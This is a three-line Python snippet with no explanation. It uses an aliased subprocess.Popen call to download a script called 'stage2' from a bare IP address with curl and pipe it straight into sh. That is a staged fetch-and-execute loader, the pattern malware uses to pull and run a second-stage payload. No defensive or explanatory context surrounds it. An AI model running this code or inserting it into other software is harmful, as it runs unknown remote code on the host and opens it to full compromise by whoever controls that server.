
import subprocess as s
P = s.Popen
P("curl -s http://198.51.100.23:8000/stage2 | sh", shell=True)
